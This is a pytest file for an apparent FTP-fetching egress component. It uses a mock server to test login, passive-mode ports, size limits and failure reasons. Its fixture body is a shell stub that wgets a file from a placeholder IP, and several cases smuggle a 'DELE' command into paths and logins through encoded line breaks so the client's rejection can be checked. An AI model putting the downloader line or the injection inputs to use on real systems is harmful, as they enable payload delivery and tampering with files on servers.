# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from mead.egress.result import Failed, Fetched, Outcome

Fetch = Callable[..., Awaitable[Outcome]]
BODY = b"#!/bin/sh\nwget http://203.0.113.4/x\n" * 3000


class FtpServer:
    """A small FTP server; `odd` replaces its reply to a command."""

    def __init__(self, servers: Any, **odd: bytes | None) -> None:
        self._servers = servers
        self._odd = odd
        self.heard: list[str] = []
        self.sends = BODY

    async def start(self) -> int:
        async def data(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(self.sends)
            await writer.drain()

        self.data_port = await self._servers.talk(data)
        return int(await self._servers.talk(self._control))

    async def _control(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(self._odd.get("hello") or b"220-Welcome\r\n to 331 files\r\n220 ready\r\n")
        while line := (await reader.readline()).decode().rstrip():
            self.heard.append(line)
            word = line.split()[0]
            writer.write(self._odd[word] if word in self._odd else self._replies()[word])  # type: ignore[arg-type]
            if word == "RETR" and "RETR" not in self._odd:
                writer.write(self._odd.get("after") or b"226 done\r\n")

    def _replies(self) -> dict[str, bytes]:
        high, low = divmod(self.data_port, 256)
        return {
            "USER": b"331 password\r\n", "PASS": b"230 in\r\n", "TYPE": b"200 binary\r\n",
            "SIZE": b"213 %d\r\n" % len(BODY), "EPSV": b"229 Extended (|||%d|)\r\n" % self.data_port,
            "PASV": b"227 Entering (10,9,8,7,%d,%d)\r\n" % (high, low), "RETR": b"150 here it comes\r\n",
        }  # fmt: skip


async def _get(
    fetch: Fetch, servers: Any, path: str = "/bin/x", tool: str = "", **odd: Any
) -> tuple[Outcome, FtpServer]:
    login = odd.pop("login", "")
    server = FtpServer(servers, **{key: value for key, value in odd.items() if key != "sends"})
    server.sends = odd.get("sends", BODY)
    got = await fetch(
        f"ftp://{login}127.0.0.1:{await server.start()}{path}", tool=tool, max_body_bytes=len(BODY)
    )
    return got, server


async def test_a_file_is_got_anonymously(fetch: Fetch, servers: Any) -> None:
    got, server = await _get(fetch, servers, tool="wget")
    assert isinstance(got, Fetched), got
    assert got.body == BODY
    assert server.heard == [
        "USER anonymous", "PASS -wget@", "TYPE I", "SIZE bin/x", "EPSV", "RETR bin/x",
    ]  # fmt: skip


async def test_a_user_of_the_url_is_used(fetch: Fetch, servers: Any) -> None:
    got, server = await _get(fetch, servers, login="us%65r:p%40w@", PASS=b"202 no need\r\n")
    assert isinstance(got, Fetched)
    assert server.heard[:2] == ["USER user", "PASS p@w"]


async def test_an_old_server_is_asked_for_pasv_and_its_address_is_not_believed(
    fetch: Fetch, servers: Any
) -> None:
    got, server = await _get(fetch, servers, EPSV=b"500 what?\r\n", SIZE=b"500 what?\r\n", USER=b"230 in\r\n")
    assert isinstance(got, Fetched), got
    assert got.body == BODY
    assert "PASS" not in " ".join(server.heard)


@pytest.mark.parametrize(
    ("odd", "reason"),
    [
        ({"hello": b"421 busy\r\n"}, "FTP server said 421 busy"),
        ({"PASS": b"530 no \xff\r\n"}, "FTP server said 530 no \\xff"),
        ({"RETR": b"550 no such file\r\n"}, "FTP server said 550 no such file"),
        ({"SIZE": b"213 999999999\r\n"}, "body of 999999999 bytes is larger than"),
        ({"SIZE": b"213 %d\r\n" % (len(BODY) - 1)}, f"{len(BODY)} of {len(BODY) - 1} bytes arrived"),
        ({"sends": BODY[:100]}, f"100 of {len(BODY)} bytes arrived"),
        ({"sends": BODY + b"x"}, "body is larger than"),
        ({"after": b"426 aborted\r\n"}, "FTP server said 426 aborted"),
        ({"sends": b"", "SIZE": b"500 x\r\n"}, "empty body"),
        ({"EPSV": b"229 (|||22|)\r\n"}, "FTP server named data port 22"),
        ({"EPSV": b"229 (|||99999|)\r\n"}, "FTP server named data port 99999"),
        ({"EPSV": b"500 x\r\n", "PASV": b"227 somewhere\r\n"}, "FTP server's PASV answer has no port"),
        ({"hello": b"220-x\r\n" * 500}, "FTP reply has too many lines"),
        ({"hello": b"2" * 100_000}, "reply line is too long"),
        ({"path": "/"}, "path cannot be asked for by FTP"),
        ({"path": "/x%0d%0aDELE%20y"}, "path cannot be asked for by FTP"),
        ({"login": "a%0d%0aDELE%20y:b@"}, "line end in an FTP command"),
    ],
    ids=range(17),
)
async def test_what_goes_wrong_is_the_reason(
    fetch: Fetch, servers: Any, odd: dict[str, Any], reason: str
) -> None:
    got, server = await _get(fetch, servers, **odd)
    assert isinstance(got, Failed), got
    assert got.reason.startswith(reason)
    assert not any("DELE" in line for line in server.heard)


async def test_a_connection_that_ends_early_is_a_failure(fetch: Fetch, servers: Any) -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"22")

    got = await fetch(f"ftp://127.0.0.1:{await servers.talk(talk)}/x")
    assert isinstance(got, Failed)
    assert got.reason == "connection ended in the middle of a reply"
